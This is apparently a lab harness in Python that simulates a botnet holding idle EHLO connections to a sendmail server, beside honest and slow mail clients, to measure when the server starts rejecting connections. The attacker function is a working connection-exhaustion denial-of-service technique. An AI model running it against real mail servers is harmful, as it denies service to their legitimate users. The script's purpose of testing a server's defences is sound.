#!/usr/bin/env python3
"""A botnet that keeps trying, and the honest clients beside it (lab).

Every attacking host keeps one idle EHLO connection to the server and tries
again about 1 s after it is closed, evicted or refused (or after a connect
that timed out: a firewall drop).  Beside it an honest client sends one
mail every 2 s, and a slow honest sender waits 4 s between its commands.
The honest clients start --warmup seconds before the attackers.  Bounded:
everything stops after warmup + duration seconds.  It also watches the
mail log for sendmail's first "rejecting connections" line.

Writes one JSON object: the attack's start (ms since the epoch), when the
first rejecting line was seen, every honest attempt and the attackers'
counters.
"""
import argparse
import json
import random
import smtplib
import socket
import sys
import threading
import time

STOP = threading.Event()


def now_ms():
    return int(time.time() * 1000)


def family(addr):
    return socket.AF_INET6 if ":" in addr else socket.AF_INET


def attacker(src, target, st, lock):
    """One host: hold an idle EHLO connection; retry 1 s after losing it."""
    while not STOP.is_set():
        s = socket.socket(family(src), socket.SOCK_STREAM)
        outcome = "failed"
        try:
            s.bind((src, 0))
            s.settimeout(3)
            s.connect((target, 25))
            s.recv(512)
            s.sendall(b"EHLO x\r\n")
            s.recv(512)
            outcome = "held"
            with lock:
                st["held"] += 1
            s.settimeout(0.5)
            while not STOP.is_set():
                try:
                    if not s.recv(512):
                        break
                except socket.timeout:
                    continue
        except ConnectionRefusedError:
            outcome = "refused"
        except socket.timeout:
            outcome = "timeout"
        except OSError:
            outcome = "cut" if outcome == "held" else "failed"
        finally:
            s.close()
        with lock:
            st[outcome] = st.get(outcome, 0) + 1
        STOP.wait(1)


def honest(src, target, every, out, lock):
    """One complete mail every `every` seconds; each attempt is recorded."""
    nxt = time.monotonic()
    while not STOP.is_set():
        t0 = now_ms()
        ok, err = False, None
        try:
            with smtplib.SMTP(target, 25, local_hostname="client.lab.example",
                              timeout=5, source_address=(src, 0)) as s:
                s.ehlo("client.lab.example")
                ok = not s.sendmail("alice@client.lab.example",
                                    ["root@mx.lab.example"],
                                    "Subject: honest\r\n\r\nhello\r\n")
        except Exception as e:  # noqa: BLE001 - record whatever broke
            err = "%s: %s" % (type(e).__name__, e)
        with lock:
            out.append({"who": src, "kind": "honest", "t": t0,
                        "end": now_ms(), "ok": ok, "error": err})
        nxt += every
        STOP.wait(max(0.0, nxt - time.monotonic()))


def slow(src, target, pause, out, lock):
    """Transactions with `pause` seconds before each command."""
    while not STOP.is_set():
        t0 = now_ms()
        ok, err, step = False, None, "connect"
        try:
            with smtplib.SMTP(target, 25, local_hostname="slow.lab.example",
                              timeout=pause + 30,
                              source_address=(src, 0)) as s:
                for step, cmd in (("ehlo", lambda: s.ehlo("slow.lab.example")),
                                  ("mail", lambda: s.mail("carol@client.lab.example")),
                                  ("rcpt", lambda: s.rcpt("root@mx.lab.example")),
                                  ("data", lambda: s.docmd("DATA"))):
                    if STOP.wait(pause):
                        raise RuntimeError("stopped")
                    code = cmd()[0]
                    if code not in (250, 354):
                        raise RuntimeError("%s: %d" % (step, code))
                step = "body"
                if STOP.wait(pause):
                    raise RuntimeError("stopped")
                s.send(b"Subject: slow\r\n\r\nslow but honest\r\n.\r\n")
                ok = s.getreply()[0] == 250
        except Exception as e:  # noqa: BLE001
            err = "%s at %s: %s" % (type(e).__name__, step, e)
        if err is not None and "stopped" in err:
            break  # cut short by the end of the run: not an attempt
        with lock:
            out.append({"who": src, "kind": "slow", "t": t0,
                        "end": now_ms(), "ok": ok, "error": err})
        STOP.wait(1)


def watch_log(path, since_ms, res):
    """Note when the first rejecting line appears after the attack starts."""
    with open(path, "rb") as f:
        f.seek(0, 2)
        while not STOP.is_set():
            line = f.readline()
            if not line:
                STOP.wait(0.05)
                continue
            if (b"rejecting connections on daemon" in line
                    and now_ms() >= since_ms):
                res["first_reject"] = now_ms()
                return


def main():
    ap = argparse.ArgumentParser()
    ap.add_argument("--target", required=True)
    ap.add_argument("--attackers", required=True, help="file, one a line")
    ap.add_argument("--honest", required=True)
    ap.add_argument("--slow", required=True)
    ap.add_argument("--log", required=True)
    ap.add_argument("--warmup", type=float, default=8)
    ap.add_argument("--duration", type=float, default=70)
    ap.add_argument("--seed", type=int, default=None)
    a = ap.parse_args()
    attackers = open(a.attackers).read().split()
    random.Random(a.seed).shuffle(attackers)  # a botnet starts in no order
    lock = threading.Lock()
    st = {"held": 0}
    attempts = []
    res = {"attackers": len(attackers), "first_reject": None}
    ts = [threading.Thread(target=honest, args=(a.honest, a.target, 2,
                                                attempts, lock)),
          threading.Thread(target=slow, args=(a.slow, a.target, 4,
                                              attempts, lock))]
    for t in ts:
        t.start()
    STOP.wait(a.warmup)
    res["attack_start"] = now_ms()
    w = threading.Thread(target=watch_log,
                         args=(a.log, res["attack_start"], res))
    w.start()
    for src in attackers:
        t = threading.Thread(target=attacker, args=(src, a.target, st, lock))
        t.start()
        ts.append(t)
    STOP.wait(a.duration)
    res["attack_end"] = now_ms()
    STOP.set()
    for t in ts + [w]:
        t.join(40)
    res["attempts"] = sorted(attempts, key=lambda x: x["t"])
    res["attack"] = st
    print(json.dumps(res), flush=True)
    return 0


if __name__ == "__main__":
    sys.exit(main())
